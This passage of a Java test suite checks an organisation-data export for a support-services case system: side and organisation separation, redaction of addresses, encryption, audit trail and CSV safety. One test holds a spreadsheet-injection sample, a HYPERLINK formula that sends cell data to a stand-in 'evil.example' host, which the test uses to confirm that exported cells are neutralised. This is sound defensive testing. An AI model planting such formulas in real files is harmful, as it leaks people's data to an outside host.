package org.alongside.operator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import net.lingala.zip4j.ZipFile;
import net.lingala.zip4j.exception.ZipException;
import net.lingala.zip4j.model.enums.AesKeyStrength;
import org.alongside.AlongsideTest;
import org.alongside.TestDatabase;
import org.alongside.access.DemoTown;
import org.alongside.shared.KeyFile;
import org.alongside.shared.Seal;
import org.alongside.shared.Side;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** What an organisation of the demo town holds, taken away. All of it happens in a copy of the town, so that what is planted here disturbs nobody. */
@AlongsideTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ExportTests {
    private static final String HARBOUR = DemoTown.HARBOUR_HOUSE.id().toString(), LANTERN = DemoTown.LANTERN.id().toString(), PASSPHRASE = "open-this";
    private static final String MINA = "'" + DemoTown.MINA_SUPPORT_WORKER.id() + "'";
    private static final Pattern ID = Pattern.compile("[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}");
    private static final String HERE = "organisation_id = '" + HARBOUR + "' and side = ";
    private final Map<String, ExportChoice> choices = ExportChoice.read();
    private final Dictionary dictionary = Dictionary.read();

    @BeforeAll
    void a_copy_of_the_town(@TempDir Path folder) throws Exception {
        TestDatabase.started().recreate("restored");
        try (Connection owner = OwnerSession.connect(TestDatabase.started().owner("alongside"))) {
            new Backup(owner, line -> {}).to(folder.resolve("town"), TestDatabase.SEAL);
        }
        new Restore(folder.resolve("town"), TestDatabase.SEAL, line -> {}).into(TestDatabase.started().owner("restored"), TestDatabase.started().app("restored"));
    }

    @AfterAll
    void it_is_given_back() {
        TestDatabase.started().recreate("restored");
    }

    @Test
    void somebody_has_decided_about_every_table_and_every_sealed_column() throws Exception {
        Map<String, List<Catalogue.Column>> tables = tables();

        assertThat(tables).hasSizeGreaterThan(70);
        assertThat(choices.keySet()).containsExactlyInAnyOrderElementsOf(tables.keySet());
        choices.forEach((table, choice) -> {
            if (choice.stays() != null) return;
            Map<String, String> types = tables.get(table).stream().collect(Collectors.toMap(Catalogue.Column::name, Catalogue.Column::type));
            Set<String> sealed = types.keySet().stream().filter(column -> types.get(column).equals("bytea")).collect(Collectors.toSet()), decided = new HashSet<>(choice.without().keySet());
            assertThat(decided).as(table).isSubsetOf(types.keySet());
            assertThat(choice.sealed().keySet()).as(table).isSubsetOf(sealed);
            assertThat(decided).as(table + ": leaves and stays").noneMatch(choice.sealed()::containsKey);
            decided.addAll(choice.sealed().keySet());
            assertThat(sealed).as(table).isSubsetOf(decided);
        });
    }

    @Test
    void every_table_with_a_side_and_an_organisation_is_asked_for_one_of_each() throws Exception {
        tables().forEach((table, columns) -> {
            ExportChoice choice = choices.get(table);
            if (choice.stays() != null) return;
            Set<String> names = columns.stream().map(Catalogue.Column::name).collect(Collectors.toSet());
            assertThat(choice.condition()).as(table).contains("asked.organisation");
            if (names.contains("side")) assertThat(choice.condition()).as(table).contains("t.side = asked.side");
            // Where two organisations have a part in a row, it goes with the one whose it is.
            if (names.contains("owner_id") && table.matches("(selfassessment\\.reader|peerreview|awards|commissioning).*")) assertThat(choice.condition()).as(table).contains("t.owner_id = asked.organisation");
            else if (names.contains("organisation_id")) assertThat(choice.condition()).as(table).contains("t.organisation_id = asked.organisation");
        });
    }

    /** The demo town does not fill every column; this looks whether the code that seals it names the same place. */
    @Test
    void every_sealed_column_is_opened_at_the_place_its_module_seals_it_to() throws Exception {
        for (Map.Entry<String, ExportChoice> choice : choices.entrySet()) {
            String module = choice.getKey().substring(0, choice.getKey().indexOf('.'));
            String code = "";
            try (Stream<Path> files = Files.walk(Path.of("src/main/java/org/alongside", module))) {
                for (Path file : files.filter(path -> path.toString().endsWith(".java")).toList()) code += Files.readString(file);
            }
            for (String place : choice.getValue().sealed().values()) {
                String fixed = place.substring(0, place.indexOf('{'));
                assertThat(code).as(place).contains("\"" + (fixed.endsWith("/") && place.indexOf('}') == place.length() - 1 ? fixed.substring(0, fixed.length() - 1) : fixed) + "\"");
            }
        }
    }

    @ParameterizedTest
    @EnumSource
    void each_file_holds_the_rows_of_its_side_and_no_others(Side side, @TempDir Path folder) throws Exception {
        Map<String, List<NamedCsvRecord>> files = export(HARBOUR, side, folder);

        assertThat(files.keySet().stream().filter(file -> file.contains(".") && file.indexOf('.') != file.lastIndexOf('.')).map(file -> file.replace(".csv", "")))
                .containsExactlyInAnyOrderElementsOf(choices.entrySet().stream().filter(choice -> choice.getValue().stays() == null).map(Map.Entry::getKey).toList());
        for (String table : sided()) {
            ExportChoice choice = choices.get(table);
            if (choice.stays() != null) continue;
            String except = choice.except().keySet().stream().map(rows -> " and not (" + rows + ")").collect(Collectors.joining());
            String nobody = table.equals("organisations.membership") ? " or side is null" : "";
            assertThat(files.get(table + ".csv")).as(table).hasSize(Integer.parseInt(ask("select count(*) from " + table + " t where organisation_id = '" + HARBOUR + "' and (side = '" + side + "'" + nobody + ")" + except).get(0)));
        }
        assertThat(files.get("people.person.csv")).isNotEmpty().extracting(person -> person.getField("id")).containsExactlyInAnyOrderElementsOf(ask("select id::text from people.person where " + HERE + "'" + side + "'"));
        assertThat(files.get("organisations.organisation.csv")).extracting(one -> one.getField("name")).contains("Harbour House");
    }

    @ParameterizedTest
    @EnumSource
    void nothing_of_the_other_side_or_of_another_organisation_is_in_it(Side side, @TempDir Path folder) throws Exception {
        plantAHitOverTheWall();
        String own = text(unpack(write(HARBOUR, side, folder.resolve("own.zip"), choices))), others = text(unpack(write(HARBOUR, side.other(), folder.resolve("other.zip"), choices)));
        Map<String, String> foreign = new TreeMap<>();
        Set<String> control = new TreeSet<>();
        for (String table : sided()) {
            List<String> keys = ask("select attname::text from pg_attribute where attrelid = '" + table + "'::regclass and attname in ('id', 'case_id', 'person_id', 'referral_id')");
            for (String key : keys) ask("select " + key + "::text from " + table + " where " + key + " is not null and (organisation_id <> '" + HARBOUR + "' or side = '" + side.other() + "')").forEach(id -> foreign.put(id, table + "." + key));
            if (choices.get(table).stays() == null && choices.get(table).except().isEmpty()) for (String key : keys) control.addAll(ask("select " + key + "::text from " + table + " where " + key + " is not null and " + HERE + "'" + side.other() + "'"));
        }
        foreign.keySet().removeAll(ask("select t.to_organisation_id::text from referral.passage t"));
        foreign.keySet().removeAll(ask("select t.copy_id::text from referral.passage t where " + HERE + "'" + side + "'"));
        Set<String> names = new TreeSet<>(ask("select given_name || joined || family_name from people.person, unnest(array[' ', ',']) joined where " + HERE + "'" + side.other() + "' and given_name <> '' and family_name <> ''"
                + " union select client_name from casework.client_case where " + HERE + "'" + side.other() + "' union select w.name from organisations.worker w join organisations.membership m on m.worker_id = w.id where m." + HERE.replace("side", "m.side") + "'" + side.other() + "'"));
        // One word alone is a word like any other.
        names.removeIf(name -> !name.matches(".+[ ,].+"));
        // Of some people both sides know the name, and of a colleague who was on both.
        names.removeAll(ask("select given_name || joined || family_name from people.person, unnest(array[' ', ',']) joined where " + HERE + "'" + side + "' union select client_name from casework.client_case where " + HERE + "'" + side + "'"
                + " union select w.name from organisations.worker w join organisations.side_change c on c.worker_id = w.id where '" + side + "' in (c.side_before, c.side_after)"
                + " union select w.name from organisations.worker w join organisations.membership m on m.worker_id = w.id where m." + HERE.replace("side", "m.side") + "'" + side + "'"));

        assertThat(foreign).hasSizeGreaterThan(20);
        Set<String> ownIds = ids(own);
        assertThat(foreign.entrySet().stream().filter(id -> ownIds.contains(id.getKey()))).isEmpty();
        assertThat(names).isNotEmpty().noneMatch(own::contains);
        // Control: they are there on their own side.
        assertThat(control).hasSizeGreaterThan(5).isSubsetOf(ids(others));
        assertThat(names).anyMatch(others::contains);
    }

    @Test
    void no_place_where_somebody_lives_or_stays_is_in_it(@TempDir Path folder) throws Exception {
        Map<String, String> markers = plantPlaces();

        String text = text(unpack(write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), choices)));
        assertThat(markers).hasSizeGreaterThan(12).allSatisfy((where, marker) -> assertThat(text).as(where).doesNotContainIgnoringCase(marker));
        assertThat(text).doesNotContainIgnoringCase("Placepostcode").doesNotContainIgnoringCase("Placeanswer");

        // Control: with everything let through, each of them is found.
        Map<String, ExportChoice> careless = new LinkedHashMap<>(choices);
        careless.replaceAll((table, choice) -> {
            Map<String, String> sealed = new LinkedHashMap<>(choice.sealed());
            choice.without().keySet().stream().filter(column -> !Set.of("helpline.contact", "training.trained").contains(table) && !column.endsWith("_key") && !choice.without().get(column).matches("it can name a worker of the other side|it is a worker of the other organisation|it is kept by the other side") && !Set.of("pair_id", "because_of", "pair", "code").contains(column)).forEach(column -> sealed.put(column, table + "." + column + "/{id}"));
            return new ExportChoice(choice.rows(), sealed, Map.of(), Map.of(), choice.stays());
        });
        String all = text(unpack(write(HARBOUR, Side.SUPPORT, folder.resolve("careless.zip"), careless)));
        assertThat(markers).allSatisfy((where, marker) -> assertThat(all).as(where).contains(marker));
        // The postcode and the street of an answer are let through as well, and meet the net that notes go through.
        assertThat(Files.readString(folder.resolve("careless.zip.unpacked/people.address.csv"))).contains(KnownAddresses.LEFT_OUT + "\nPlacelines", "," + KnownAddresses.LEFT_OUT + ",Placearea");
    }

    @Test
    void an_address_of_ours_that_somebody_typed_into_a_note_does_not_leave_with_it(@TempDir Path folder) throws Exception {
        UUID support = id("select id from people.person where " + HERE + "'SUPPORT' limit 1"), change = id("select id from people.person where " + HERE + "'CHANGE' limit 1");
        address(support, "SUPPORT", "31 Netmarker Street\nWestermouth", "WM9 9XQ");
        address(change, "CHANGE", "Flat 2, 8 Wallmarker Rise", "WM8 8YQ");
        answer("ADDRESS", "12, Answermarker Lane, WM7 7ZQ");
        UUID note = moment("Note", "She is at 31 netmarker  STREET, wm99xq now. He is at Flat 2, 8 Wallmarker Rise (or 8 Wallmarker Rise). Before: 12 Answermarker Lane. Ring 31 times, not at the Street.");

        Map<String, List<NamedCsvRecord>> files = export(HARBOUR, Side.SUPPORT, folder);
        assertThat(files.get("casework.moment.csv")).filteredOn(row -> row.getField("id").equals(note.toString())).singleElement().extracting(row -> row.getField("words")).isEqualTo(
                "She is at [address left out], [address left out] now. He is at [address left out] (or [address left out]). Before: [address left out]. Ring 31 times, not at the Street.");
        assertThat(Files.readString(folder.resolve("export.zip.unpacked/README.txt"))).containsPattern("\\(([5-9]|\\d\\d+) times\\)");
    }

    @Test
    void every_sealed_value_of_what_leaves_opens_in_the_whole_town(@TempDir Path folder) throws Exception {
        Map<String, Integer> opened = new TreeMap<>();
        for (String organisation : List.of(HARBOUR, LANTERN)) {
            for (Side side : Side.values()) {
                Map<String, List<NamedCsvRecord>> files = export(organisation, side, Files.createDirectory(folder.resolve(organisation + side)));
                choices.forEach((table, choice) -> choice.sealed().keySet().forEach(column -> opened.merge(table + "." + column,
                        (int) files.get(table + ".csv").stream().filter(row -> !row.getField(column).isEmpty()).count(), Integer::sum)));
            }
        }
        for (String column : opened.keySet()) {
            int dot = column.lastIndexOf('.');
            String table = column.substring(0, dot), name = column.substring(dot + 1), except = choices.get(table).except().keySet().stream().map(rows -> " and not (" + rows + ")").collect(Collectors.joining());
            int sealed = Integer.parseInt(ask("select count(" + name + ") from " + table + " t where true" + except).get(0));
            // One that did not open would have stopped the export. Some rooms keep blank words too, and what belongs to neither side, or to both, is in both files.
            int twice = column.equals("organisations.worker.email") || Stream.of("training.", "directory.", "evaluation.comment", "selfassessment.").anyMatch(table::startsWith) ? sealed : 0;
            assertThat(opened.get(column)).as(column).isBetween(Math.min(sealed, 1), sealed + twice);
        }
        assertThat(opened.values().stream().mapToInt(Integer::intValue).sum()).isGreaterThan(200);
        assertThat(opened.entrySet().stream().filter(one -> one.getValue() > 0)).hasSizeGreaterThan(35);
    }

    @Test
    void a_sealed_value_at_another_place_stops_the_export(@TempDir Path folder) throws Exception {
        Map<String, ExportChoice> wrong = new LinkedHashMap<>(choices);
        wrong.computeIfPresent("casework.goal", (table, choice) -> new ExportChoice(choice.rows(), Map.of("words", "casework.goal.words/{case_id}"), Map.of(), Map.of(), null));

        assertThatThrownBy(() -> write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), wrong)).isInstanceOf(CannotStart.class).hasMessageContaining("cannot open casework.goal.words");
        assertThat(folder).isEmptyDirectory();
    }

    @Test
    void what_nobody_decided_about_does_not_leave(@TempDir Path folder) throws Exception {
        change("create table casework.tomorrow (id uuid, organisation_id uuid, side text, words text)", "insert into casework.tomorrow values (gen_random_uuid(), '" + HARBOUR + "', 'SUPPORT', 'Undecidedtable')",
                "alter table casework.client_case add column tomorrow text", "update casework.client_case set tomorrow = 'Undecidedcolumn'");
        try {
            Map<String, ExportChoice> forgotten = new LinkedHashMap<>(choices);
            forgotten.computeIfPresent("casework.need", (table, choice) -> new ExportChoice(choice.rows(), Map.of(), Map.of(), Map.of(), null));
            Path unpacked = unpack(write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), forgotten));

            assertThat(text(unpacked)).doesNotContain("Undecided");
            assertThat(read(unpacked).get("casework.need.csv")).isNotEmpty().noneMatch(row -> row.findField("words").isPresent());
            assertThat(read(unpacked).get("left-out.csv")).filteredOn(row -> row.getField("why it stays").equals(ExportReadme.UNDECIDED)).extracting(row -> row.getField("table") + " " + row.getField("column or rows"))
                    .containsExactly("casework.client_case tomorrow", "casework.need words", "casework.tomorrow ");
        } finally {
            change("drop table casework.tomorrow", "alter table casework.client_case drop column tomorrow");
        }
    }

    @Test
    void odd_text_comes_back_as_it_was_written(@TempDir Path folder) throws Exception {
        List<String> odd = List.of("say \"hello\", then\nring\r\nagain", "Zo\u00eb \u2013 \u0633\u0644\u0627\u0645 \ud83d\udc9c", "=HYPERLINK(\"https://evil.example/?\"&A1)", "'=1+1", "''+44", "'tis", "@SUM(1)", "\t=2", "-", "-5 degrees", "\uff1d1+1", "");
        Map<UUID, String> planted = new LinkedHashMap<>();
        for (String words : odd) planted.put(moment(words, words), words);

        Map<String, NamedCsvRecord> moments = export(HARBOUR, Side.SUPPORT, folder).get("casework.moment.csv").stream().collect(Collectors.toMap(row -> row.getField("id"), row -> row));
        planted.forEach((id, words) -> assertThat(List.of(moments.get(id.toString()).getField("words"), moments.get(id.toString()).getField("headline"))).as(words).allSatisfy(cell -> {
            // A spreadsheet runs nothing of it.
            assertThat(cell).doesNotContainPattern("\\A[=+\\-@\t\r\n＝]");
            assertThat(cell.matches("(?s)'+[=+\\-@\t\r\n＝＋－＠].*") ? cell.substring(1) : cell).isEqualTo(words);
        }));
        UUID empty = planted.entrySet().stream().filter(one -> one.getValue().isEmpty()).map(Map.Entry::getKey).findFirst().orElseThrow();
        assertThat(Files.readAllLines(folder.resolve("export.zip.unpacked/casework.moment.csv")).stream().filter(line -> line.startsWith(empty.toString()))).singleElement().asString().as("no path, and words without letters").endsWith("\"\",,\"\"");
    }

    @Test
    void every_column_of_every_file_is_explained(@TempDir Path folder) throws Exception {
        Map<String, List<NamedCsvRecord>> files = export(HARBOUR, Side.SUPPORT, folder);
        Map<String, Set<String>> explained = new TreeMap<>();
        files.get("columns.csv").forEach(line -> {
            assertThat(List.of(line.getField("meaning"), line.getField("why it is kept"), line.getField("until when"))).as(line.toString()).noneMatch(String::isBlank);
            explained.computeIfAbsent(line.getField("file"), file -> new HashSet<>()).add(line.getField("column"));
        });

        for (String file : explained.keySet()) assertThat(heading(folder, file)).as(file).containsExactlyInAnyOrderElementsOf(explained.get(file));
        assertThat(explained.keySet()).hasSize(files.size() - 2);
        String readme = Files.readString(folder.resolve("export.zip.unpacked/README.txt"));
        assertThat(readme).contains("Harbour House", "support side", "delete the file", String.format("%,10d  people.person.csv", files.get("people.person.csv").size()));
        assertThat(files.get("left-out.csv")).extracting(line -> line.getField("table") + " " + line.getField("column or rows")).contains("people.address lines", "people.address address_key", "audit.entry ", "organisations.credential ");
        assertThat(files.get("casework.moment.csv").get(0).getField("recorded_at")).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(\\.\\d+)?\\+00:00");
    }

    @Test
    void whoever_is_named_as_a_colleague_is_in_the_list_of_workers(@TempDir Path folder) throws Exception {
        Map<String, List<NamedCsvRecord>> files = export(HARBOUR, Side.SUPPORT, folder);
        Set<String> workers = files.get("organisations.worker.csv").stream().map(worker -> worker.getField("id")).collect(Collectors.toSet());

        assertThat(workers).hasSizeGreaterThan(3);
        files.forEach((file, rows) -> rows.forEach(row -> row.getHeader().stream().filter(column -> column.matches("worker_id|owner_id|asked|.*_by|.*_by_id"))
                .map(row::getField).filter(id -> id.matches("[0-9a-f]{8}-.{27}") && !id.equals(HARBOUR)).forEach(id -> assertThat(workers).as(file + " " + row).contains(id))));
    }

    @Test
    void the_privacy_lead_finds_it_in_the_trail_of_everybody_who_left(@TempDir Path folder) throws Exception {
        String before = ask("select coalesce(max(sequence), 0)::text from audit.entry").get(0);
        Map<String, List<NamedCsvRecord>> files = export(HARBOUR, Side.CHANGE, folder);

        assertThat(ask("select kind || ' ' || cardinality(subject_ids) || ' ' || act || ' ' || organisation_id from audit.entry where sequence > " + before)).containsExactlyInAnyOrder(
                "person " + files.get("people.person.csv").size() + " LISTED " + HARBOUR, "case " + files.get("casework.client_case.csv").size() + " LISTED " + HARBOUR, "referral " + files.get("referral.referral.csv").size() + " LISTED " + HARBOUR);
        int rows = files.entrySet().stream().filter(file -> file.getKey().chars().filter(one -> one == '.').count() == 2).mapToInt(file -> file.getValue().size()).sum();
        assertThat(ask("select distinct detail from audit.entry where sequence > " + before)).containsExactly("taken away in a file: all of the change side, " + String.format("%,d", rows) + " rows");
        assertThat(seenBy("PRIVACY_LEAD", HARBOUR, before)).isEqualTo(3);
        assertThat(List.of(seenBy("SUPPORT_WORKER", HARBOUR, before), seenBy("PRIVACY_LEAD", LANTERN, before))).containsOnly(0);
        assertThat(ask("select id::text from people.person p where " + HERE + "'CHANGE' and not exists (select from audit.entry a where a.sequence > " + before + " and p.id = any (a.subject_ids))")).isEmpty();
    }

    @Test
    void the_file_is_for_one_user_opens_with_its_passphrase_only_and_never_overwrites_another(@TempDir Path folder) throws Exception {
        Path file = write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), choices);

        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).isEqualTo("rw-------");
        assertThat(new ZipFile(file.toFile()).getFileHeaders()).hasSizeGreaterThan(50).allSatisfy(entry -> {
            assertThat(entry.isEncrypted()).isTrue();
            assertThat(entry.getAesExtraDataRecord().getAesKeyStrength()).isEqualTo(AesKeyStrength.KEY_STRENGTH_256);
            assertThat(entry.getFileName()).matches("README\\.txt|columns\\.csv|left-out\\.csv|[a-z]+\\.[a-z_]+\\.csv");
        });
        assertThat(new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1)).doesNotContain("Harbour", "Mina", "SUPPORT", PASSPHRASE);
        assertThatThrownBy(() -> new ZipFile(file.toFile(), "open-that".toCharArray()).extractAll(folder.resolve("wrong").toString())).isInstanceOf(ZipException.class).hasMessageContaining("Wrong");
        assertThat(text(unpack(file))).contains("Harbour House", "Mina");
        assertThatThrownBy(() -> write(HARBOUR, Side.SUPPORT, file, choices)).isInstanceOf(CannotStart.class).hasMessageContaining("exists already");
        assertThat(new ZipFile(file.toFile(), PASSPHRASE.toCharArray()).isValidZipFile()).isTrue();
    }

    @Test
    void a_crash_half_way_leaves_no_file_and_says_nothing_untrue_in_the_trail(@TempDir Path folder) throws Exception {
        String before = ask("select count(*) from audit.entry").get(0);
        Consumer<String> falls = line -> {
            if (line.startsWith("people.person ")) throw new TheMachineFellOver();
        };

        assertThatThrownBy(() -> write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), choices, falls, TestDatabase.SEAL)).isInstanceOf(TheMachineFellOver.class);
        assertThat(folder).isEmptyDirectory();
        assertThat(ask("select count(*) from audit.entry")).containsExactly(before);
    }

    @Test
    void without_its_row_in_the_trail_there_is_no_file(@TempDir Path folder) throws Exception {
        change("create function audit.full() returns trigger language plpgsql as $$ begin raise exception 'the trail is full'; end $$", "create trigger full_up before insert on audit.entry for each row execute function audit.full()");
        try {
            assertThatThrownBy(() -> write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), choices)).isInstanceOf(IOException.class).hasMessageContaining("trail");
            assertThat(folder).isEmptyDirectory();
        } finally {
            change("drop trigger full_up on audit.entry", "drop function audit.full()");
        }
        assertThat(write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), choices)).exists();
    }

    @Test
    void who_is_asked_for_must_be_here_and_be_one_and_the_keys_must_be_ours(@TempDir Path folder) throws Exception {
        assertThatThrownBy(() -> write("Harbour", Side.SUPPORT, folder.resolve("export.zip"), choices)).isInstanceOf(CannotStart.class).hasMessageContaining("no organisation called Harbour");
        assertThatThrownBy(() -> write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), choices, line -> {}, new Seal(KeyFile.inMemory()))).isInstanceOf(CannotStart.class).hasMessageContaining("key file");
        change("drop policy installer on audit.entry");
        try {
            assertThatThrownBy(() -> write(HARBOUR, Side.SUPPORT, folder.resolve("export.zip"), choices)).isInstanceOf(CannotStart.class).hasMessageContaining("audit.entry");
        } finally {
            change("create policy installer on audit.entry using (access.actor_kind() = 'INSTALLER') with check (access.actor_kind() = 'INSTALLER')");
        }
        change("insert into organisations.organisation (id, name, public_name, kind, created_at) values ('00000000-0000-4000-8000-00000000e001', 'Harbour House', 'Other', 'OTHER_AGENCY', now())");
        try {
            assertThatThrownBy(() -> write("Harbour House", Side.SUPPORT, folder.resolve("export.zip"), choices)).isInstanceOf(CannotStart.class).hasMessageContaining("use the id");
        } finally {
            change("delete from organisations.organisation where id = '00000000-0000-4000-8000-00000000e001'");
        }
        assertThat(folder).isEmptyDirectory();
        assertThat(write("Harbour House", Side.SUPPORT, folder.resolve("export.zip"), choices)).exists();
    }

    @Test
    void there_is_no_file_with_both_sides_and_what_is_asked_wrongly_says_so() {
        for (String[] asked : new String[][] {{"export-organisation"}, {"export-organisation", HARBOUR, "--to", "x.zip"}, {"export-organisation", HARBOUR, "--side", "BOTH", "--to", "x.zip"}, {"export-organisation", HARBOUR, "--side", "SUPPORT", "--side", "CHANGE", "--to", "x.zip"}}) {
            StringWriter said = new StringWriter();
            assertThat(Commands.commandLine().setErr(new PrintWriter(said, true)).execute(asked)).as(String.join(" ", asked)).isEqualTo(2);
            assertThat(said.toString()).contains("side");
        }
    }

    @Test
    void passphrases_are_long_readable_and_never_the_same() {
        Set<String> made = Stream.generate(ExportFile::passphrase).limit(1000).collect(Collectors.toSet());

        assertThat(made).hasSize(1000).allMatch(one -> one.matches("([a-z2-9]{4}-){5}[a-z2-9]{4}") && !one.matches(".*[ilo01].*"));
        assertThat(made.stream().flatMapToInt(String::chars).distinct().count()).isEqualTo(32);
    }

    /** How many rows of the trail somebody sees through the application's own role. */
    private static int seenBy(String role, String organisation, String after) throws SQLException {
        try (Connection app = OwnerSession.connect(TestDatabase.started().app("restored")); Statement statement = app.createStatement()) {
            statement.execute("select set_config('alongside.actor', 'WORKER', false), set_config('alongside.roles', '" + role + "', false), set_config('alongside.organisation', '" + organisation + "', false)");
            try (ResultSet row = statement.executeQuery("select count(*) from audit.entry where sequence > " + after)) {
                row.next();
                return row.getInt(1);
            }
        }
    }

    /** Two files of one family, one on each side, as the intake check finds them; and somebody who moved over the wall. */
    private void plantAHitOverTheWall() throws SQLException {
        change("delete from matching.apart", "delete from matching.hit", "insert into matching.hit (id, organisation_id, new_kind, new_record_id, new_side, new_role, known_kind, known_record_id, known_side, known_role, reasons, for_managers, found_at, version)"
                + " select gen_random_uuid(), a.organisation_id, 'CASE', a.id, a.side, 'CLIENT', 'CASE', b.id, b.side, 'PARTICIPANT', '{NAME}', false, now(), 0 from casework.client_case a, casework.client_case b where a." + HERE.replace("side", "a.side") + "'SUPPORT' and b." + HERE.replace("side", "b.side") + "'CHANGE' limit 1",
                "insert into matching.apart (organisation_id, kind, record_id, worker_id, hit_id, decided_by, decided_at) select organisation_id, 'CASE', record, gen_random_uuid(), id, gen_random_uuid(), now() from matching.hit, unnest(array[new_record_id, known_record_id]) record");
    }

    /** A word nobody else has, in every column and row that holds a place. @return by where it stands */
    private Map<String, String> plantPlaces() throws SQLException {
        Map<String, String> markers = new LinkedHashMap<>();
        UUID person = id("select id from people.person where " + HERE + "'SUPPORT' limit 1"), request = UUID.randomUUID(), item = UUID.randomUUID();
        UUID home = address(person, "SUPPORT", "1 Somewhere\nPlacelines", "Placepostcode");
        sealed("update people.address set area = ? where id = '" + home + "'", "Placearea", "people.address.area/" + home);
        sealed("insert into disclosure.request (id, organisation_id, side, person_id, kind, status, asked_by, scope, received_on, due_on, recorded_by, recorded_at) values ('" + request + "', '" + HARBOUR + "', 'SUPPORT', '" + person + "', 'COURT', 'OPEN', ?, decode('" + hex("all", "disclosure.request.scope/" + request)
                + "', 'hex'), '2026-11-20', '2026-12-20', " + MINA + ", now())", "Placeaskedby", "disclosure.request.asked_by/" + request);
        sealed("insert into disclosure.request_item (id, request_id, organisation_id, side, field, source, what, decision, recorded_at) values ('" + item + "', '" + request + "', '" + HARBOUR + "', 'SUPPORT', 'STAYING_AT', 'OURS', ?, 'UNDECIDED', now())", "Placewhat", "disclosure.request_item.what/" + item);
        answer("ADDRESS", "Placeanswer");
        answer("AREA", "Placetown");
        for (String part : List.of("draft_part", "agreed_part")) {
            String key = part.equals("draft_part") ? "case_id" : "agreed_id", rest = part.equals("draft_part") ? ", revision, saved_at, saved_by" : "", values = part.equals("draft_part") ? ", 0, now(), " + MINA : "";
            UUID plan = id("select " + key + " from safetyplan." + part + " where " + HERE + "'SUPPORT' limit 1");
            sealed("insert into safetyplan." + part + " (" + key + ", section, organisation_id, side, words, talked, declined" + rest + ") values ('" + plan + "', 'SAFE_PLACES', '" + HARBOUR + "', 'SUPPORT', ?, '{}', '{}'" + values + ") on conflict (" + key + ", section) do update set words = excluded.words",
                    "Place" + part.replace("_", ""), "safetyplan." + part + ".words/SAFE_PLACES/" + plan);
            markers.put("safetyplan." + part, "Place" + part.replace("_", ""));
        }
        change("update helpline.contact set area = 'Placehelpline'");
        for (String column : List.of("letters.letter.to_lines", "accommodation.request.avoid", "accommodation.place.name", "appointments.appointment.place", "orders.protective_order.conditions", "messages.outbox.body")) {
            String table = column.substring(0, column.lastIndexOf('.')), name = column.substring(column.lastIndexOf('.') + 1), marker = "Place" + column.replaceAll("[._]", "");
            change("alter table " + table + " disable trigger user");
            for (String row : ask("select id::text from " + table + " where " + HERE + "'SUPPORT'")) sealed("update " + table + " set " + name + " = ? where id = '" + row + "'", marker, column + "/" + row);
            change("alter table " + table + " enable trigger user");
            markers.put(column, marker);
        }
        markers.putAll(Map.of("people.address.lines", "Placelines", "people.address.area", "Placearea", "disclosure.request.asked_by", "Placeaskedby", "disclosure.request_item.what", "Placewhat", "AREA", "Placetown", "helpline.contact.area", "Placehelpline"));
        return markers;
    }

    private UUID address(UUID person, String side, String lines, String postcode) throws SQLException {
        UUID id = UUID.randomUUID();
        sealed("insert into people.address (id, person_id, organisation_id, side, kind, lines, postcode, guarded, unsafe, recorded_by, recorded_at) values ('" + id + "', '" + person + "', '" + HARBOUR + "', '" + side + "', 'HOME', ?, decode('" + hex(postcode, "people.address.postcode/" + id)
                + "', 'hex'), true, false, " + MINA + ", clock_timestamp())", lines, "people.address.lines/" + id);
        return id;
    }

    private void answer(String question, String words) throws SQLException {
        UUID referral = id("select id from referral.referral where " + HERE + "'SUPPORT' limit 1");
        sealed("insert into referral.answer (referral_id, organisation_id, side, question, words) values ('" + referral + "', '" + HARBOUR + "', 'SUPPORT', '" + question + "', ?) on conflict (referral_id, question) do update set words = excluded.words", words, "referral.words." + question + "/" + referral);
    }

    private UUID moment(String headline, String words) throws SQLException {
        UUID id = UUID.randomUUID();
        sealed("insert into casework.moment (id, case_id, organisation_id, side, worker_id, kind, happened_at, recorded_at, headline, words) select '" + id + "', id, organisation_id, side, " + MINA + ", 'NOTE', now(), now(), '" + headline.replace("'", "''") + "', ? from casework.client_case where " + HERE + "'SUPPORT' limit 1",
                words, "casework.moment.words/" + id);
        return id;
    }

    private static void sealed(String statement, String words, String place) throws SQLException {
        try (Connection owner = owner(); PreparedStatement prepared = owner.prepareStatement(statement)) {
            prepared.setBytes(1, TestDatabase.SEAL.closeBytes(words.getBytes(StandardCharsets.UTF_8), place));
            assertThat(prepared.executeUpdate()).isEqualTo(1);
        }
    }

    private static String hex(String words, String place) {
        return HexFormat.of().formatHex(TestDatabase.SEAL.closeBytes(words.getBytes(StandardCharsets.UTF_8), place));
    }

    private Map<String, List<NamedCsvRecord>> export(String organisation, Side side, Path folder) throws Exception {
        return read(unpack(write(organisation, side, folder.resolve("export.zip"), choices)));
    }

